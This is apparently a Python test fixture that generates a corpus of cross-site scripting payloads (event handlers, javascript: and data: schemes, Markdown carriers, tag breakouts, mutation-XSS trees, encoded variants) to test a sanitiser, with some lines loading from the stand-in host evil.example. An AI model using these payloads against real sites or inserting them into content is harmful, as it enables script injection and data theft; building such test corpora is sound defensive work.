"""A corpus of hostile texts, written for this project: each way of running a script in each dress that hides it.

The ways are those that public collections teach (OWASP's filter evasion sheet, PortSwigger's and Markdown lists); none
of their lines is copied, so there is no licence but our own. Each sets `window.__pwned`, opens a dialogue or asks
evil.example for something: `tests/browser/test_hostile_text.py` sees all three.
"""

import html
from itertools import product

RUN = "window.__pwned=1"
ELSEWHERE = "//evil.example/x"

# Elements that run a handler by themselves or at a touch, as (before the handler, the handler, after it).
BY_THEMSELVES = (
    ("<img src=x ", "onerror", ">"),
    ("<img/src='x'/", "onerror", ">"),
    ("<image src=x ", "onerror", ">"),
    ("<svg ", "onload", ">"),
    ("<svg/", "onload", "//"),
    ("<svg><animate attributeName=x dur=1s ", "onbegin", "></svg>"),
    ("<svg><set attributeName=x ", "onbegin", "></svg>"),
    ("<svg><a><rect width=99 height=99 /><animate attributeName=href to=x ", "onend", " dur=1s></a></svg>"),
    ("<body ", "onload", ">"),
    ("<body ", "onpageshow", ">"),
    ("<input autofocus ", "onfocus", ">"),
    ("<select autofocus ", "onfocus", "></select>"),
    ("<textarea autofocus ", "onfocus", "></textarea>"),
    ("<button autofocus ", "onfocus", ">x</button>"),
    ("<a href=/ autofocus ", "onfocus", ">x</a>"),
    ("<p contenteditable autofocus tabindex=1 ", "onfocusin", ">x</p>"),
    ("<video autoplay src=x ", "onerror", "></video>"),
    ("<video><source ", "onerror", "></video>"),
    ("<audio src=x ", "onerror", "></audio>"),
    ("<details open ", "ontoggle", "><summary>x</summary></details>"),
    ("<iframe ", "onload", "></iframe>"),
    ("<object data=x ", "onerror", "></object>"),
    ("<embed src=x ", "onload", ">"),
    ("<marquee ", "onstart", ">x</marquee>"),
    ("<style ", "onload", "></style>"),
    ("<link rel=stylesheet href=x ", "onerror", ">"),
    ("<script src=x ", "onerror", "></script>"),
    ("<track default src=x ", "onerror", ">"),
    ("<form><input type=image src=x ", "onerror", "></form>"),
    ("<dialog open ", "onclose", ">x</dialog>"),
    ("<p style='animation:spin 1s' ", "onanimationstart", ">x</p>"),
    ("<p tabindex=1 ", "onmouseover", ">x</p>"),
    ("<p tabindex=1 ", "onpointerenter", ">x</p>"),
    ("<p popover id=x ", "onbeforetoggle", ">x</p>"),
    ("<math><mi ", "onclick", ">x</mi></math>"),
    ("<unknown tabindex=1 autofocus ", "onfocus", ">x</unknown>"),
)
# How the assignment of a handler is written.
DRESSES = (
    "{on}={run}",
    '{on}="{run}"',
    "{ON} = '{run}'",
    "{on}\n=\n{run}",
    "{on}\x0c={run}",
    "{on}=`{run}`",
    "x='>'{on}={coded}",
)
SCHEMES = (
    "javascript:", "JaVaScRiPt:", " javascript:", "\x01javascript:", "java\tscript:", "java\nscript:", "java\rscript:",
    "javascript&colon;", "javascript&#58;", "javascript&#x3a;", "&#106;avascript:", "&#x6A;avascript:",
    "&Tab;javascript:",
    "java&Tab;script:", "java&NewLine;script:", "java\\script:", "javascript%3A", "%6aavascript:", "javascript\uff1a",
    "\u202ejavascript:", "java\u00adscript:", "java\u200bscript:", "vbscript:", "livescript:",
    "view-source:javascript:",
    "data:text/html,<script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==//",
    "data:image/svg+xml,<svg onload=",
    "blob:javascript:", "file:///etc/passwd#", "feed:javascript:", "jar:javascript:", "x-javascript:",
)  # fmt: skip
# Where an address may stand, in Markdown and in HTML.
LINKS = (
    "[press]({to})", "[press](<{to}>)", "![press]({to})", "[press]({to} 'title')", "<{to}>",
    "[press][one]\n\n[one]: {to}",
    "[press][two]\n\n[two]: <{to}>", "[![press]({to})]({to})", "<a href='{to}'>press</a>", "<a href={to}>press</a>",
    "<iframe src='{to}'></iframe>", "<object data='{to}'></object>", "<embed src='{to}'>",
    "<form action='{to}'><button>press</button></form>",
    "<button form=x formaction='{to}'>press</button>", "<svg><a xlink:href='{to}'><text y=9>press</text></a></svg>",
    "<math href='{to}'><mtext>press</mtext></math>", "<area href='{to}'>", "<base href='{to}'>",
    "<meta http-equiv=refresh content='0;url={to}'>",
    "<link rel=import href='{to}'>", "<isindex action='{to}' type=image>", "<table background='{to}'></table>",
)  # fmt: skip
# Ways out of where a text may be put: an attribute, a script, a title, a comment, a template.
BREAKOUTS = (
    "", '"', "'", "`", '">', "'>", "-->", "]]>", "*/", "</title>", "</textarea>", "</script>", "</style>",
    "</noscript>",
    "</template>", "</select>", "</option></select>", "</code></pre>", "</svg>", "</math>", "\\\">", "%22%3E",
    "&quot;&gt;",
)  # fmt: skip
INSIDE = (
    "<script>{run}</script>", "<script/x>{run}</script>", "<script\n>{run}</script\n>", "<script src={away}></script>",
    "<img src=x onerror={run}>", "<svg onload={run}>",
)  # fmt: skip
# Markdown that is to carry the payload where the renderer writes text or attributes itself.
CARRIERS = (
    "# {text}", "> {text}", "- {text}", "1. {text}", "**{text}**", "_{text}_", "~~{text}~~", "`{text}`",
    "```{text}\nx\n```",
    "~~~ {text}\nx\n~~~", "    {text}", "| a |\n|---|\n| {text} |", "| {text} |\n|---|\n| a |", "[{text}](/x)",
    "[x](/x \"{text}\")",
    "[x](/x '{text}')", "![{text}](/x)", "![x](/x \"{text}\")", "![{text}](/files/abcdefghijklmnop/a.png)",
    "[{text}]: /x\n\n[{text}]",
    "x\\\n{text}", "x  \n{text}", "&lt;{text}", "<!-- {text} -->", "<?php {text} ?>", "<![CDATA[{text}]]>",
    "::: no-terms\n{text}\n:::",
    "::: {text}\nx\n:::",
)  # fmt: skip
CARRIED = (
    '"onmouseover="window.__pwned=1',
    "'onmouseover='window.__pwned=1",
    "<img src=x onerror=window.__pwned=1>",
    "</p><script>window.__pwned=1</script>",
)
# Trees that a browser mends into something else than a sanitiser saw.
MENDED = (
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=window.__pwned=1&gt;'>",
    "<svg></p><style><a id='</style><img src=1 onerror=window.__pwned=1>'>",
    "<noscript><p title='</noscript><img src=x onerror=window.__pwned=1>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.__pwned=1>",
    "<svg><style><img title='</style><img src=x onerror=window.__pwned=1>'>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror=window.__pwned=1></annotation-xml></math>",
    "<svg><desc><img src=x onerror=window.__pwned=1></desc></svg>",
    "<svg><title><img src=x onerror=window.__pwned=1></title></svg>",
    "<table><td><select><table><img src=x onerror=window.__pwned=1></table></select></td></table>",
    "<template><img src=x onerror=window.__pwned=1></template>",
    "<template shadowrootmode=open><img src=x onerror=window.__pwned=1></template>",
    "<xmp><p title='</xmp><img src=x onerror=window.__pwned=1>'>",
    "<plaintext><img src=x onerror=window.__pwned=1>",
    "<listing>&lt;img src=x onerror=window.__pwned=1&gt;</listing>",
    "<iframe srcdoc='&lt;script&gt;parent.__pwned=1&lt;/script&gt;'></iframe>",
    "<a <!-- href='javascript:window.__pwned=1'>press</a>",
    "<p/><<img src=x onerror=window.__pwned=1//<",
    "<img src=`x`onerror=window.__pwned=1>",
    "<img alt=\"`x` \"onerror=window.__pwned=1 x=\"\" src=x>",
    "<scr<script>ipt>window.__pwned=1</scr</script>ipt>",
    "<form id=x><input name=attributes></form><input form=x name=nodeType>",
    "<a id=defaultView href=javascript:window.__pwned=1>press</a>",
    "<style>@import '//evil.example/x'; *{background:url(//evil.example/b)}</style>",
    "<p style=\"background:url('//evil.example/x')\">x</p>",
    "<img srcset='//evil.example/x 1x'>",
    "<picture><source srcset=//evil.example/x><img></picture>",
    "<input type=image src=//evil.example/x>",
    "<svg><image href=//evil.example/x /></svg>",
    "<svg><use href='//evil.example/x#a' /></svg>",
    "<link rel=preload as=image href=//evil.example/x>",
    "<object type=image/svg+xml data=//evil.example/x></object>",
    "<video poster=//evil.example/x></video>",
    "![x](//evil.example/x.png)",
    "![x][away]\n\n[away]: //evil.example/x.png",
    "\ufeff<script>window.__pwned=1</script>",
    "+ADw-script+AD4-window.__pwned+AD0-1+ADw-/script+AD4-",
    "\u00bcscript\u00bewindow.__pwned=1\u00bc/script\u00be",
    "\uff1cscript\uff1ewindow.__pwned=1\uff1c/script\uff1e",
    "%3Cscript%3Ewindow.__pwned=1%3C/script%3E",
    "\\u003cscript\\u003ewindow.__pwned=1\\u003c/script\\u003e",
    "&lt;script&gt;window.__pwned=1&lt;/script&gt;",
    "&amp;lt;script&amp;gt;window.__pwned=1&amp;lt;/script&amp;gt;",
    "&#60;script&#62;window.__pwned=1&#60;/script&#62;",
    "{{constructor.constructor('window.__pwned=1')()}}",
    "${window.__pwned=1}#{window.__pwned=1}<%= window.__pwned=1 %>",
    "{% debug %}{{ request }}{% include 'core/base.html' %}",
)  # fmt: skip


def _corpus() -> tuple[str, ...]:
    coded = "".join(f"&#{ord(sign)};" for sign in RUN)
    handled = (
        before + dress.format(on=on, ON=on.upper(), run=RUN, coded=coded) + after
        for (before, on, after), dress in product(BY_THEMSELVES, DRESSES)
    )
    linked = (link.format(to=scheme + RUN) for link, scheme in product(LINKS, SCHEMES))
    broken_out = (way + inside.format(run=RUN, away=ELSEWHERE) for way, inside in product(BREAKOUTS, INSIDE))
    carried = (carrier.replace("{text}", text) for carrier, text in product(CARRIERS, CARRIED))
    twice = (html.escape(text) for text in MENDED)
    return tuple(dict.fromkeys((*handled, *linked, *broken_out, *carried, *MENDED, *twice)))


HOSTILE = _corpus()
# Each way at least once, for walks that take a while for each text.
SAMPLE = (*HOSTILE[:: len(HOSTILE) // 160], *MENDED)
